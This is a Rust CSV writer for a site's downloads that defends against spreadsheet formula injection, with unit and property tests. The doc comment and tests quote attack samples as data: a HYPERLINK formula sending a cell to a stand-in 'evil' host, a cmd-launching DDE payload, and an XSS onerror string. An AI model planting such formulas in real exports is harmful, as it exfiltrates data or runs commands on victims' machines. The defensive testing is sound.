//! The one CSV writer of the site's downloads (RFC 4180): comma-separated, CRLF line ends, fields
//! quoted when they contain a comma, quote, CR or LF, quotes doubled. A row of one empty field is
//! written `""`: as a bare line break it would be a blank line, which readers skip (the `csv` crate,
//! pandas), and the row would be lost.
//!
//! Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some
//! read a leading tab or CR the same way) as a formula, so a service named
//! `=HYPERLINK("http://evil/?"&A1,"x")` would run when the file is opened. As OWASP recommends, a
//! text cell starting with one of these characters is written quoted with a `'` in front
//! (`"'=HYPERLINK(...)"`), which spreadsheets show as text. Numbers the program wrote ([`Kind::Number`])
//! are left as they are: `-0.5` stays a number. The cell's type decides, never its characters.

use crate::cell::{Cell, Kind};

/// The characters that make a spreadsheet read a cell as a formula when they come first.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Writes a header row and data rows as one CSV document.
pub fn to_csv<R, C>(header: &[&str], rows: R) -> String
where
    R: IntoIterator<Item = Vec<C>>,
    C: Into<Cell>,
{
    let mut out = String::new();
    push_row(&mut out, header.iter().map(|name| Cell::text(*name)));
    for row in rows {
        push_row(&mut out, row.into_iter().map(Into::into));
    }
    out
}

fn push_row(out: &mut String, cells: impl Iterator<Item = Cell>) {
    let row_start = out.len();
    let mut fields = 0;
    for (index, cell) in cells.enumerate() {
        if index > 0 {
            out.push(',');
        }
        push_field(out, &cell);
        fields += 1;
    }
    if fields == 1 && out.len() == row_start {
        out.push_str("\"\"");
    }
    out.push_str("\r\n");
}

fn push_field(out: &mut String, cell: &Cell) {
    let field = cell.as_str();
    let formula_like = cell.kind() == Kind::Text && field.starts_with(FORMULA_STARTS);
    if formula_like || field.contains([',', '"', '\r', '\n']) {
        out.push('"');
        if formula_like {
            out.push('\'');
        }
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// The fields of a CSV document, row by row, as an independent RFC 4180 reader (the `csv` crate) reads them.
    fn parse(text: &str) -> Vec<Vec<String>> {
        let mut reader = ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        // A record the reader refuses becomes a row no test expects, so the test fails on it.
        reader
            .records()
            .map(|record| match record {
                Ok(record) => record.iter().map(str::to_owned).collect(),
                Err(error) => vec![format!("unreadable CSV: {error}")],
            })
            .collect()
    }

    #[test]
    fn plain_fields_are_written_as_they_are() {
        assert_eq!(to_csv(&["service", "attainment"], [vec!["api", "99.95"]]), "service,attainment\r\napi,99.95\r\n");
    }

    #[test]
    fn commas_quotes_and_line_breaks_are_quoted() {
        let csv = to_csv(&["name"], [vec!["a,b"], vec!["say \"hi\""], vec!["two\nlines"], vec![""]]);
        assert_eq!(csv, "name\r\n\"a,b\"\r\n\"say \"\"hi\"\"\"\r\n\"two\nlines\"\r\n\"\"\r\n");
    }

    #[test]
    fn markup_is_data_not_code() {
        // CSV has no escaping for `<`; the field is written literally (a spreadsheet shows it as text).
        assert_eq!(to_csv(&["n"], [vec!["<img src=x onerror=alert(1)>"]]), "n\r\n<img src=x onerror=alert(1)>\r\n");
    }

    #[test]
    fn formula_payloads_in_text_are_neutralised() {
        let payloads = [
            ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
            ("\tx", "\"'\tx\""),
            ("\rx", "\"'\rx\""),
            ("a=1", "a=1"),
        ];
        for (payload, written) in payloads {
            assert_eq!(to_csv(&["n"], [vec![payload]]), format!("n\r\n{written}\r\n"), "{payload}");
        }
    }

    #[test]
    fn a_row_of_one_empty_field_is_not_a_blank_line() {
        let csv = to_csv(&["note"], [vec![""], vec!["x"]]);
        assert_eq!(csv, "note\r\n\"\"\r\nx\r\n");
        assert_eq!(parse(&csv), [vec!["note"], vec![""], vec!["x"]]);
    }

    #[test]
    fn numbers_stay_numbers_even_when_negative() {
        let row = vec![Cell::text("api"), Cell::number(-0.5), Cell::quantity(crate::charts::Unit::Percent, -12.5)];
        assert_eq!(to_csv(&["slo", "budget", "shown"], [row]), "slo,budget,shown\r\napi,-0.5,-12.5 %\r\n");
        // The same characters as text are neutralised: the type decides, not the text.
        assert_eq!(to_csv(&["n"], [vec![Cell::text("-0.5")]]), "n\r\n\"'-0.5\"\r\n");
    }

    proptest! {
        #[test]
        fn no_text_cell_reads_as_a_formula_and_none_is_lost(texts in proptest::collection::vec(any::<String>(), 1..6)) {
            let csv = to_csv(&["a"], [texts.iter().map(String::as_str).collect::<Vec<_>>()]);
            let rows = parse(&csv);
            prop_assert_eq!(rows.len(), 2);
            prop_assert_eq!(rows[1].len(), texts.len());
            for (field, text) in rows[1].iter().zip(&texts) {
                prop_assert!(!field.starts_with(FORMULA_STARTS), "{:?} -> {:?}", text, field);
                let original = if text.starts_with(FORMULA_STARTS) { field.strip_prefix('\'') } else { Some(field.as_str()) };
                prop_assert_eq!(original, Some(text.as_str()));
            }
        }

        #[test]
        fn number_cells_are_written_as_numbers_that_read_back_exactly(value in any::<f64>().prop_filter("finite", |v| v.is_finite())) {
            let rows = parse(&to_csv(&["v"], [vec![Cell::number(value)]]));
            let field = &rows[1][0];
            prop_assert_eq!(field.parse::<f64>().map(f64::to_bits), Ok(value.to_bits()));
        }
    }
}
